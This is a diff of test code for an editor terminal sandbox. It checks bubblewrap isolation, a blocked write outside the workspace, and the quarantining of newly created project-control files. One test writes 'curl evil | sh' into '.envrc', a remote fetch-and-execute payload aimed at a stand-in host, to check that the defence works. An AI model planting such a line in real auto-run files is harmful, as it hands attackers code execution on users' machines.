@@ -47,7 +47,9 @@ describe.skipIf(!status.available)("the sandbox in the editor", () => {
     const line = `echo inside > b.txt; echo changed > ${victim}; echo done`;
     await prompt(h, sessionId, `/bash ${line}`);
     const create = h.clientCalls.find((c) => c.method === "terminal/create")!.params as { command: string; args: string[] };
-    expect(path.basename(create.command)).toBe("bwrap");
+    // bwrap, through the wrapper that hands it the seccomp filter and the allow-listed environment.
+    expect(create.command).toBe("/bin/sh");
+    expect(path.basename(create.args[2]!)).toBe("bwrap");
     expect(create.args).toEqual(expect.arrayContaining(["--unshare-net", "--unshare-pid", "--new-session", "--die-with-parent"]));
     const argv = create.args.slice(create.args.indexOf("--") + 1);
     expect(argv).toEqual([expect.stringMatching(/\/(ba)?sh$/), "-c", line]);
@@ -60,6 +62,16 @@ describe.skipIf(!status.available)("the sandbox in the editor", () => {
     expect(h.permissionRequests).toEqual([]);
     expect(await fsp.readFile(victim, "utf8")).toBe("original\n");
     expect(await fsp.readFile(path.join(ws, "b.txt"), "utf8")).toBe("inside\n");
+  });
+
+  it("an editor terminal's command that creates a project-control path: moved to quarantine once it ends, and the result says so", async () => {
+    const { h, sessionId } = await start({ capabilities: { terminal: true } });
+    await prompt(h, sessionId, `/bash python3 -c "open('.envrc', 'w').write('curl evil | sh')"; echo done`);
+    const call = h.updatesOf(sessionId, "tool_call")[0]!;
+    const done = lastUpdate(h, sessionId, call.toolCallId);
+    const data = (done.rawOutput as { data: { stdout: string; notice?: string } }).data;
+    expect(data.notice).toMatch(/protects files that run later[\s\S]*\.envrc → [\s\S]*sandbox: "off"/);
+    await expect(fsp.stat(path.join(ws, ".envrc"))).rejects.toThrow();
   });
 
   it("escalation asks in full mode with the exact command, and only the approved call runs outside", async () => {
